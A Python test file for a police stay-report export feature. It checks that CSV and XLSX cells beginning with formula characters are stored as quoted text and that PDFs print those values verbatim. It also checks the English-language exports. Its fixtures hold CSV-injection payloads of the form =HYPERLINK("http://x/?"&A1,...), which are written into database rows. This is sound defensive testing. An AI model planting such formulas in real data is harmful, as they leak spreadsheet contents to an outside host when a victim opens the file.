"""Every export of the police reports, asked for on the reports page and downloaded as an officer does, with rows
stored before the input rules (written straight into the database): a name, address, reason, room or establishment
name that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is text in every CSV and XLSX cell (never a
formula) and is printed verbatim in the PDFs. The same exports speak English when the officer's page does."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from flask import Flask
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import insert, update

from asm.establishments.models import Establishment, Room
from asm.exports import FORMULA_LEADERS
from asm.extensions import db
from asm.people.models import Person
from asm.stays.models import Stay
from tests.conftest import Factory, post_form
from tests.support.desk import use_fast_password_hashes
from tests.support.police import PoliceWorld, download_report

pytestmark = pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext (poppler-utils) is needed")

LEADERS = ("=", "+", "-", "@", "\t", "\r")
ATTACK = 'HYPERLINK("http://x/?"&A1,"{what}")'
EST_NAME = '=HYPERLINK("http://x/?"&A1,"est")'


def hostile(leader: str, what: str) -> str:
    """`=HYPERLINK(…)`, `+HYPERLINK(…)`, …; after a tab or CR the formula itself follows (`\\t=HYPERLINK(…)`)."""
    body = ATTACK.format(what=what)
    return leader + ("=" + body if leader in ("\t", "\r") else body)


@pytest.fixture(autouse=True)
def _setup(monkeypatch: pytest.MonkeyPatch, app: Flask, tmp_path: Path) -> None:
    use_fast_password_hashes(monkeypatch)
    app.config["POLICE_REPORT_DIR"] = str(tmp_path / "reports")


@pytest.fixture
def world(app: Flask, factory: Factory) -> PoliceWorld:
    """The police world, whose six stays of ward A are then rewritten in place as rows from before the rules."""
    world = PoliceWorld(app, factory)
    stays = [world.hoa, world.late, *world.missing, world.no_checkout, world.left]
    # The late one (EST-A) gets "=": the establishment report lists it with its delay.
    order = ["+", "=", "-", "@", "\t", "\r"]
    world.hostile = {}  # type: ignore[attr-defined]
    for leader, stay in zip(order, stays, strict=True):
        values = {what: hostile(leader, what) for what in ("name", "address", "reason", "room")}
        db.session.execute(
            update(Person.__table__)
            .where(Person.__table__.c.id == stay.person_id)
            .values(full_name=values["name"], address=values["address"])
        )
        room_id = db.session.execute(
            insert(Room.__table__).values(establishment_id=stay.establishment_id, name=values["room"], capacity=2)
        ).inserted_primary_key[0]
        db.session.execute(
            update(Stay.__table__)
            .where(Stay.__table__.c.id == stay.id)
            .values(reason=values["reason"], room_id=room_id)
        )
        world.hostile[leader] = values  # type: ignore[attr-defined]
    db.session.execute(
        update(Establishment.__table__).where(Establishment.__table__.c.id == world.est_b.id).values(name=EST_NAME)
    )
    db.session.commit()
    db.session.expire_all()
    return world


def values_in(world: PoliceWorld, leaders: tuple[str, ...], fields: tuple[str, ...]) -> list[str]:
    return [world.hostile[leader][field] for leader in leaders for field in fields]  # type: ignore[attr-defined]


# --- CSV and XLSX -------------------------------------------------------------------------------------------

# export -> (the form's fields, the leaders of the stays it lists, their fields it shows)
EXPORTS: dict[str, tuple[dict[str, str], tuple[str, ...], tuple[str, ...]]] = {
    "register": ({"kind": "register", "scope": "commune", "commune": "00004"}, LEADERS, ("name", "reason", "room")),
    "establishment": ({"kind": "establishment", "establishment": "EST-B"}, ("-", "@", "\t"), ("name",)),
    "commune": ({"kind": "commune", "commune": "00004"}, (), ()),
}


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_no_csv_cell_starts_a_formula(world: PoliceWorld, export: str) -> None:
    fields, leaders, shown = EXPORTS[export]
    data, headers = download_report(world, "officer_a", fmt="csv", **fields)
    assert headers["Content-Type"] == "text/csv; charset=utf-8"  # the charset once
    cells = csv_cells(data)
    assert cells and all(not cell.startswith(FORMULA_LEADERS) for cell in cells), [
        cell for cell in cells if cell.startswith(FORMULA_LEADERS)
    ]
    for value in values_in(world, leaders, shown):
        assert "'" + value in cells, repr(value)  # written as text: the value itself after one quote
    if export != "establishment":  # EST-B's own report lists its guests, not its name
        assert "'" + EST_NAME in cells
    # Every cell is quoted (OWASP), so a comma or quote in a value never ends the cell early.
    lines = data.decode("utf-8-sig").split("\r\n")
    assert all(line.startswith('"') for line in lines if line)


def xlsx_cells(data: bytes) -> list[object]:
    """Every cell of every sheet, each checked: no formula anywhere, text as string cells."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
    workbook = load_workbook(io.BytesIO(data))  # not read-only: cell types and styles
    values: list[object] = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    if cell.value.startswith((*FORMULA_LEADERS, "\n")):
                        assert cell.quotePrefix, (cell.coordinate, cell.value)  # editing it keeps it text
                values.append(cell.value)
    return values


@pytest.mark.parametrize("export", sorted(EXPORTS))
def test_no_xlsx_cell_is_a_formula(world: PoliceWorld, export: str) -> None:
    fields, leaders, shown = EXPORTS[export]
    data, headers = download_report(world, "officer_a", fmt="xlsx", **fields)
    assert headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    values = xlsx_cells(data)
    for value in values_in(world, leaders, shown):
        # The value as stored, no quote added (XML reads a carriage return back as a line feed).
        assert value.replace("\r", "\n") in values, repr(value)
    if export != "establishment":
        assert EST_NAME in values


# --- PDF ------------------------------------------------------------------------------------------------------


def pdf_text(data: bytes, tmp_path: Path) -> str:
    path = tmp_path / "report.pdf"
    path.write_bytes(data)
    layout = subprocess.run(["pdftotext", "-raw", str(path), "-"], capture_output=True, text=True, check=True)
    return layout.stdout + "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def squeeze(text: str) -> str:
    return "".join(text.split())


def test_the_pdfs_print_them_verbatim(world: PoliceWorld, tmp_path: Path) -> None:
    register = pdf_text(
        download_report(world, "officer_a", kind="register", scope="commune", commune="00004")[0], tmp_path
    )
    for leader in LEADERS:
        # The register's columns are narrow: a long value is cut with "…", never changed.
        name = world.hostile[leader]["name"].lstrip("\t\r")  # type: ignore[attr-defined]
        assert name[:16] in register, name
    late = pdf_text(download_report(world, "officer_a", kind="establishment", establishment="EST-A")[0], tmp_path)
    assert squeeze(world.hostile["="]["name"]) in squeeze(late)  # type: ignore[attr-defined]  # wrapped in its cell
    commune = pdf_text(download_report(world, "officer_a", kind="commune", commune="00004")[0], tmp_path)
    assert squeeze(EST_NAME) in squeeze(commune)
    for text in (register, late, commune):
        assert "'=" not in text and "'+" not in text  # no quote added on paper


# --- the same exports in English ------------------------------------------------------------------------------


def test_exports_speak_the_officers_language(world: PoliceWorld, tmp_path: Path) -> None:
    client = world.client("officer_a")
    assert post_form(client, "/ngon-ngu/en").status_code == 303
    data, _headers = download_report(world, "officer_a", kind="register", scope="commune", commune="00004", fmt="csv")
    head = next(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert head == [
        "No.", "Full name", "Date of birth", "Sex", "Nationality", "Document number", "Establishment", "Room/bed",
        "Arrival", "Departure", "Notified at", "Reason",
    ]  # fmt: skip
    data, _headers = download_report(world, "officer_a", kind="establishment", establishment="EST-B", fmt="xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "Notifications"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][6] == "State" and {row[6] for row in rows[1:]} == {"Not notified", "On time"}
    text = pdf_text(download_report(world, "officer_a", kind="establishment", establishment="EST-A")[0], tmp_path)
    for english in ("SOCIALIST REPUBLIC OF VIET NAM", "STAY NOTIFICATION COMPLIANCE REPORT", "PREPARED BY"):
        assert english in text
    for vietnamese in ("CỘNG HÒA", "NGƯỜI LẬP BÁO CÁO", "Số thông báo phải thực hiện", "Họ và tên"):
        assert vietnamese not in text
